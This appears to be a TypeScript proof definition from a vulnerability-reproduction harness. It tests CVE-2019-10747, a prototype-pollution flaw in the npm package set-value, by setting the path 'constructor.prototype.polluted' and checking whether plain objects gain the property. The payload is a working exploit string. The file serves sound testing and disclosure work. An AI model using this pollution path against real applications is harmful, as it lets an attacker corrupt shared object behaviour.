import { defineProof } from '../define-proof.ts';

/** Sets a path through constructor and looks for its property on a plain object. */
export const setValueConstructor = defineProof({
  name: 'set-value-constructor',
  ids: ['CVE-2019-10747', 'GHSA-4g88-fppr-53pp'],
  ecosystem: 'npm',
  package: 'set-value',
  kind: 'prototype_pollution',
  describes: 'Sets a path through constructor and looks for its property on a plain object.',
  shownOn: { vulnerable: '2.0.0', fixed: '2.0.1' },
  source: `
module.exports = ({ load }) => {
  const subject = load();
  const answers = subject({}, 'a.b', 2).a.b === 2;
  try {
    subject({}, 'constructor.prototype.polluted', true);
  } catch {
    // Refusing is an answer as well.
  }
  const reproduced = ({}).polluted !== undefined;
  return { reproduced, answers };
};
`,
});
